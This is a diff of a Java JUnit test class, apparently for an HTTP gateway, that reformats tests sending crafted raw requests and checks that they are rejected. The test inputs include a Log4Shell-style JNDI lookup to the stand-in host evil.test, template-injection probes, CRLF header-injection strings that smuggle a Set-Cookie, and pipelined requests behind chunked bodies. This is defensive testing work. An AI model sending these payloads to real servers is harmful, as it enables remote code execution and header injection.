@@ -24,6 +24,15 @@ import org.junit.jupiter.params.provider.ValueSource;
 class MessageAttackTest {
   private static final String HOST = "Host: AUTHORITY\r\n";
   private static final String BEHIND = "GET /public/behind HTTP/1.1\r\n" + HOST + "\r\n";
+  private static final String HANDSHAKE =
+      """
+      Connection: Upgrade
+      Upgrade: websocket
+      Origin: http://AUTHORITY
+      Sec-WebSocket-Version: 13
+      Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==
+      """
+          .replace("\n", "\r\n");
   private static final String CHUNKED = "Transfer-Encoding: chunked\r\n";
 
   private final RawUpstream upstream = RawUpstream.ok();
@@ -48,9 +57,7 @@ class MessageAttackTest {
   private String answers(String bytes) {
     var port = world.gateway().port();
     try (var client = RawClient.to(port)) {
-      return client
-          .sendsExactly(bytes.replace("AUTHORITY", "localhost:" + port))
-          .readsToTheEnd();
+      return client.sendsExactly(bytes.replace("AUTHORITY", "localhost:" + port)).readsToTheEnd();
     }
   }
 
@@ -170,7 +177,8 @@ class MessageAttackTest {
   @Test
   @Case("T86")
   void requestsInLineAreAnsweredInLine() {
-    var last = BEHIND.replace("behind", "last").replace("\r\n\r\n", "\r\nConnection: close\r\n\r\n");
+    var last =
+        BEHIND.replace("behind", "last").replace("\r\n\r\n", "\r\nConnection: close\r\n\r\n");
     var answer = answers(BEHIND + post(CHUNKED, "2\r\nhi\r\n0\r\n\r\n") + BEHIND + last);
     assertThat(answer.split("HTTP/1\\.1 200 ", -1)).hasSize(5);
     assertThat(arrived())
@@ -183,13 +191,7 @@ class MessageAttackTest {
   void behindARefusedHandshakeRequestsAreJudgedAsEver() {
     var answer =
         answers(
-            get(
-                    "Connection: Upgrade\r\nUpgrade: websocket\r\nOrigin: http://AUTHORITY\r\n"
-                        + "Sec-WebSocket-Version: 13\r\n"
-                        + "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n")
-                + "GET /api/behind HTTP/1.1\r\n"
-                + HOST
-                + "Connection: close\r\n\r\n");
+            get(HANDSHAKE) + "GET /api/behind HTTP/1.1\r\n" + HOST + "Connection: close\r\n\r\n");
     assertThat(answer).startsWith("HTTP/1.1 200 ").contains("HTTP/1.1 401 ");
     assertThat(arrived()).containsExactly("/public/x");
   }
@@ -201,8 +203,14 @@ class MessageAttackTest {
       for (var length : List.of("0", "2147483648", "999999999999")) {
         var answer =
             answers(
-                "POST /auth/" + path + " HTTP/1.1\r\n" + HOST + "Connection: close\r\n"
-                    + "Content-Length: " + length + "\r\n\r\n");
+                "POST /auth/"
+                    + path
+                    + " HTTP/1.1\r\n"
+                    + HOST
+                    + "Connection: close\r\n"
+                    + "Content-Length: "
+                    + length
+                    + "\r\n\r\n");
         assertThat(answer).as(path + length).startsWith("HTTP/1.1 4");
       }
     }
@@ -212,15 +220,33 @@ class MessageAttackTest {
   @Case({"T91", "T18"})
   void whatLooksLikeATemplateIsText() {
     for (var text :
-        List.of("%25n%25s%25x", "$%7Bjndi:ldap://evil.test/x}", "{{7919*7907}}", "${7919*7907}", "*{7919*7907}")) {
+        List.of(
+            "%25n%25s%25x",
+            "$%7Bjndi:ldap://evil.test/x}", "{{7919*7907}}", "${7919*7907}", "*{7919*7907}")) {
       for (var line :
-          List.of("/" + text, "/public/" + text, "/auth/callback?state=" + text + "&error=" + text,
-              "/auth/login?return_to=" + text, "/auth/" + text)) {
+          List.of(
+              "/" + text,
+              "/public/" + text,
+              "/auth/callback?state=" + text + "&error=" + text,
+              "/auth/login?return_to=" + text,
+              "/auth/" + text)) {
         var answer =
             answers(
-                "GET " + line + " HTTP/1.1\r\n" + HOST + "Connection: close\r\nAccept: text/html\r\n"
-                    + "User-Agent: " + text + "\r\nCookie: " + text + "=" + text + "\r\n"
-                    + "X-Request-Id: " + text + "\r\n\r\n");
+                "GET "
+                    + line
+                    + " HTTP/1.1\r\n"
+                    + HOST
+                    + "Connection: close\r\nAccept: text/html\r\n"
+                    + "User-Agent: "
+                    + text
+                    + "\r\nCookie: "
+                    + text
+                    + "="
+                    + text
+                    + "\r\n"
+                    + "X-Request-Id: "
+                    + text
+                    + "\r\n\r\n");
         assertThat(answer).as(line).matches("(?s)HTTP/1\\.1 [234].*").doesNotContain("62615533");
       }
     }
@@ -250,8 +276,11 @@ class MessageAttackTest {
             "$Version=1; $" + own)) {
       var answer =
           answers(
-              "GET /api/x HTTP/1.1\r\n" + HOST + "Connection: close\r\nX-CSRF: 1\r\nCookie: "
-                  + field + "\r\n\r\n");
+              "GET /api/x HTTP/1.1\r\n"
+                  + HOST
+                  + "Connection: close\r\nX-CSRF: 1\r\nCookie: "
+                  + field
+                  + "\r\n\r\n");
       assertThat(answer).as(field).matches("(?s)HTTP/1\\.1 4(01|31) .*");
     }
     assertThat(arrived()).isEmpty();
@@ -260,13 +289,15 @@ class MessageAttackTest {
   @Test
   @Case("T73")
   void anEscapedLineEndStaysOne() {
-    assertThat(answers("GET /public/a%0d%0aX:%20y HTTP/1.1\r\n" + HOST + "Connection: close\r\n\r\n"))
+    assertThat(
+            answers("GET /public/a%0d%0aX:%20y HTTP/1.1\r\n" + HOST + "Connection: close\r\n\r\n"))
         .startsWith("HTTP/1.1 400 ");
     answers("GET /public/x?a=%0d%0aX:%20y HTTP/1.1\r\n" + HOST + "Connection: close\r\n\r\n");
     assertThat(arrived()).containsExactly("/public/x?a=%0d%0aX:%20y");
     var answer =
         answers(
-            "GET /auth/login?return_to=/%0d%0aSet-Cookie:%20a=b HTTP/1.1\r\n" + HOST
+            "GET /auth/login?return_to=/%0d%0aSet-Cookie:%20a=b HTTP/1.1\r\n"
+                + HOST
                 + "Connection: close\r\n\r\n");
     assertThat(answer).startsWith("HTTP/1.1 400 ").doesNotContain("a=b");
   }
@@ -293,13 +324,16 @@ class MessageAttackTest {
       var answer = asset("Range: " + range + "\r\n");
       assertThat(answer).startsWith("HTTP/1.1 200 ").endsWith(whole);
     }
-    assertThat(asset("Range: bytes=0-6\r\n")).startsWith("HTTP/1.1 206 ").endsWith("\r\n\r\nconsole");
+    assertThat(asset("Range: bytes=0-6\r\n"))
+        .startsWith("HTTP/1.1 206 ")
+        .endsWith("\r\n\r\nconsole");
     assertThat(asset("Range: bytes=99-\r\n")).startsWith("HTTP/1.1 416 ");
     assertThat(asset("If-None-Match: *\r\n")).startsWith("HTTP/1.1 304 ").endsWith("\r\n\r\n");
     assertThat(asset("").replaceFirst("(?s).*?\r\n\r\n", "")).isEqualTo(whole);
   }
 
   private String asset(String fields) {
-    return answers("GET /assets/app.js HTTP/1.1\r\n" + HOST + "Connection: close\r\n" + fields + "\r\n");
+    return answers(
+        "GET /assets/app.js HTTP/1.1\r\n" + HOST + "Connection: close\r\n" + fields + "\r\n");
   }
 }
